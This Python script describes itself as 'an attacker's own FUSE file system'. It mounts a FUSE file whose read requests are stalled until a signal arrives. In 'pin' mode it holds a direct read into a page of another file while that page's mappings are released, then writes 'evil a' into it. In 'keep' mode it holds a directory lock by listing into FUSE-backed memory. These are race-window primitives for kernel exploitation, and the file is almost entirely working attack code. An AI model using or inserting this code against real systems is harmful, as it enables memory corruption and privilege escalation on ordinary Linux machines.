"""An attacker's own FUSE file system: one file, `f`, and whoever reads it waits until the attacker likes.

    own_fuse.py pin  POINT FILE      a read from it goes into a page of FILE, which is let go of by all names
    own_fuse.py keep POINT DIR       DIR is listed into memory that is such a file, so that its lock is kept

Prints `ready`, waits for a line, and lets the read end: with `evil a`. Then prints `done`."""

import ctypes
import os
import platform
import struct
import sys
import threading

how, point, target = sys.argv[1:4]
libc = ctypes.CDLL(None, use_errno=True)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]
libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
libc.read.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t]
READ_WRITE, SHARED, PRIVATE, PAGE = 3, 1, 2, 4096
LOOKUP, FORGET, GETATTR, OPEN, READ, INIT, OPENDIR, INTERRUPT, BATCH_FORGET = 1, 2, 3, 14, 15, 26, 27, 36, 42
ENOSYS = 38

fuse = os.open("/dev/fuse", os.O_RDWR)
options = f"fd={fuse},rootmode=40000,user_id=0,group_id=0".encode()
assert libc.mount(b"own", point.encode(), b"fuse", 6, options) == 0, os.strerror(ctypes.get_errno())
asked, let_go = threading.Event(), threading.Event()


def attributes(node):
    mode, size = (0o040755, 0) if node == 1 else (0o100644, PAGE)
    return struct.pack("<6Q10I", node, size, 0, 0, 0, 0, 0, 0, 0, mode, 1, 0, 0, 0, PAGE, 0)


def answer(unique, data=b"", error=0):
    os.write(fuse, struct.pack("<IiQ", 16 + len(data), -error, unique) + data)


def late(unique):
    asked.set()
    let_go.wait()
    answer(unique, b"evil a" if how == "pin" else bytes(PAGE))


def serve():
    while True:
        try:
            request = os.read(fuse, 1 << 20)
        except OSError:  # it was taken off
            return
        _, code, unique, node = struct.unpack_from("<IIQQ", request)
        if code == INIT:
            answer(unique, struct.pack("<IIIIHHIIHHI7I", 7, 31, 0, 0, 8, 8, PAGE, 1, 1, 0, *[0] * 8))
        elif code == LOOKUP:
            answer(unique, struct.pack("<4Q2I", 2, 0, 1000, 1000, 0, 0) + attributes(2))
        elif code == GETATTR:
            answer(unique, struct.pack("<QII", 1000, 0, 0) + attributes(node))
        elif code in (OPEN, OPENDIR):
            answer(unique, struct.pack("<QII", 0, 0, 0))
        elif code == READ:
            threading.Thread(target=late, args=[unique], daemon=True).start()
        elif code not in (FORGET, INTERRUPT, BATCH_FORGET):
            answer(unique, error=ENOSYS)


def mapped(fd, sharing):
    place = libc.mmap(None, PAGE, READ_WRITE, sharing, fd, 0)
    assert place not in (None, ctypes.c_void_p(-1).value), os.strerror(ctypes.get_errno())
    return place


threading.Thread(target=serve, daemon=True).start()
if how == "pin":
    file = os.open(target, os.O_RDWR)
    page = mapped(file, SHARED)
    own = os.open(point + "/f", os.O_RDONLY | os.O_DIRECT)
    work = threading.Thread(target=lambda: libc.read(own, page, PAGE))
else:
    page = mapped(os.open(point + "/f", os.O_RDWR), PRIVATE)
    file = os.open(target, os.O_RDONLY)
    getdents64 = {"x86_64": 217, "aarch64": 61}[platform.machine()]
    work = threading.Thread(target=lambda: libc.syscall(getdents64, file, ctypes.c_void_p(page), PAGE))
work.start()
asked.wait()
if how == "pin":
    assert libc.munmap(page, PAGE) == 0
    os.close(file)
print("ready", flush=True)
sys.stdin.readline()
let_go.set()
work.join()
print("done", flush=True)
sys.stdin.readline()
